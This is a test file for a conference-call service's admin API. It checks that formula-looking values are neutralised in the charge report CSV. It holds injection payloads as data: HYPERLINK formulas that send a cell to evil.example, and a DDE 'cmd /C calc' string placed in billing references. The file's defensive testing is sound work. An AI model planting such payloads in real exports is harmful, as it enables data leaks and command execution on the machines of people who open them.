import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningKvorum } from '../../src/start-kvorum';
import { adminApiRequest } from '../support/admin-api-request';
import { csvObjects } from './billing-fixtures';
import { operatorToken } from './crash-harness';
import { eventually, ResilienceWorld } from './resync-harness';
import { soundOf } from '../support/heard';

/**
 * What a spreadsheet would run as a formula, put in through the admin API
 * (organisation and conference names, billing references, adjustment
 * reasons) and as caller numbers that came in over SIP, then read back from
 * the charge report's CSV as a spreadsheet would read it.
 */

/** OWASP's list: a cell starting with one of these is a formula. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_CELL = /^[=+\-@\t\r]/;
/** Columns of numbers Kvorum formatted: a credit is -5.10, a number and no formula. */
const NUMBER_COLUMNS = ['participants', 'seconds', 'charged_seconds', 'charged_minutes', 'rate_ore_per_minute', 'amount_nok'];
const CALLER_NUMBERS = ['=HYPERLINK("http://evil.example/?"&A1,"call back")', '+4791234567', '@SUM(1+1)', '-1+2'];

let world: ResilienceWorld;
let kvorum: RunningKvorum;
let token: string;
/**
 * The values as the API stored them (it trims what people type: a leading tab or CR goes).
 * Organisation names are not in the CSV (only in the JSON report); theirs start with formula
 * characters too, so a column added for them would meet the same test.
 */
const stored = { billingReferences: [] as string[], conferenceNames: [] as string[], reasons: [] as string[] };

const api = async (method: string, path: string, body?: unknown) => {
  const response = await adminApiRequest(kvorum.httpPort, token, method, path, body);
  if (response.status >= 300) throw new Error(`${method} ${path}: ${response.status} ${response.text}`);
  return response;
};

/** Today in the report's time zone, and the days either side (a meeting belongs to the day it started). */
function period(): string {
  const day = (offsetDays: number) =>
    new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Oslo' }).format(new Date(Date.now() + offsetDays * 86_400_000));
  return `from=${day(-1)}&to=${day(1)}`;
}

beforeAll(async () => {
  world = await ResilienceWorld.start();
  kvorum = await world.startInProcess();
  token = await operatorToken(world);
  for (const [index, start] of FORMULA_STARTS.entries()) {
    const organisation = (
      await api('POST', '/organisations', { name: `${start}SUM(1+1) org ${index}`, billingReference: `${start}cmd|' /C calc'!A${index}` })
    ).json;
    stored.billingReferences.push(organisation.billingReference);
    const created = (
      await api('POST', '/conferences', {
        organisationId: organisation.id,
        name: `${start}HYPERLINK("http://evil.example/","room ${index}")`,
      })
    ).json;
    stored.conferenceNames.push(created.conference.name);
    const code = (role: string) => created.codes.find((entry: { role: string }) => entry.role === role).code as string;

    // A caller number over SIP, as the carrier sent it.
    const callers = [
      await world.joinMeeting(code('leader')),
      await joinFrom(CALLER_NUMBERS[index % CALLER_NUMBERS.length]!, code('participant')),
    ];
    for (const caller of callers) await caller.hangUp();
    const adjustment = (
      await api('POST', `/organisations/${organisation.id}/adjustments`, { amountOre: -510, reason: `${start}1+1 credited` })
    ).json;
    stored.reasons.push(adjustment.reason);
  }
  await eventually(
    () => world.legs(),
    (legs) => legs.length === 2 * FORMULA_STARTS.length && legs.every((leg) => leg.leftAt !== null),
    'every leg is closed',
  );
}, 60_000);

afterAll(async () => {
  await kvorum?.stop();
  await world?.close();
});

async function joinFrom(callerId: string, code: string) {
  const caller = world.dial(callerId);
  await caller.waitForMedia(soundOf({ key: 'code.enter' }));
  await caller.press(`${code}#`);
  await caller.waitUntil((c) => c.bridgeType() === 'mixing', 'be in the meeting');
  return caller;
}

async function report(query: string, separator = ','): Promise<Record<string, string>[]> {
  const csv = (await api('GET', `/reports/charges?${period()}&format=csv&legs=true&${query}`)).text;
  return csvObjects(csv, separator);
}

describe('the charge report CSV, opened in a spreadsheet', () => {
  for (const [description, query, separator] of [
    ['with caller numbers unmasked, comma-separated', 'unmasked=true', ','],
    ['masked, semicolon-separated', 'separator=%3B', ';'],
  ] as const) {
    it(`has no cell a spreadsheet would run as a formula (${description})`, async () => {
      const rows = await report(query, separator);
      expect(rows.filter((row) => row.record === 'leg')).toHaveLength(2 * FORMULA_STARTS.length);
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          if (NUMBER_COLUMNS.includes(column))
            expect({ column, cell }).toEqual({ column, cell: expect.stringMatching(/^(-?\d+(\.\d+)?)?$/) });
          else expect({ column, cell, formula: FORMULA_CELL.test(cell) }).toEqual({ column, cell, formula: false });
        }
      }
    });
  }

  it('keeps every value whole after the quote that makes it text, and a credit a number', async () => {
    const rows = await report('unmasked=true');
    const asText = (value: string) => (FORMULA_CELL.test(value) ? `'${value}` : value);
    expect(new Set(rows.map((row) => row.billing_reference))).toEqual(new Set(stored.billingReferences.map(asText)));
    expect(new Set(rows.filter((row) => row.record === 'meeting').map((row) => row.conference))).toEqual(
      new Set(stored.conferenceNames.map(asText)),
    );
    const callerNumbers = new Set(rows.filter((row) => row.record === 'leg').map((row) => row.caller_number));
    for (const number of CALLER_NUMBERS) expect(callerNumbers).toContain(`'${number}`);
    const adjustments = rows.filter((row) => row.record === 'adjustment');
    expect(adjustments.map((row) => row.amount_nok)).toEqual(FORMULA_STARTS.map(() => '-5.10'));
    expect(new Set(adjustments.map((row) => (row.note ?? '').replace(/ \(by [^)]*\)$/, '')))).toEqual(new Set(stored.reasons.map(asText)));
    // What was typed with a leading tab or CR arrives without it: the API trims names and reasons.
    expect(stored.reasons.filter((reason) => /^[\t\r]/.test(reason))).toEqual([]);
  });
});
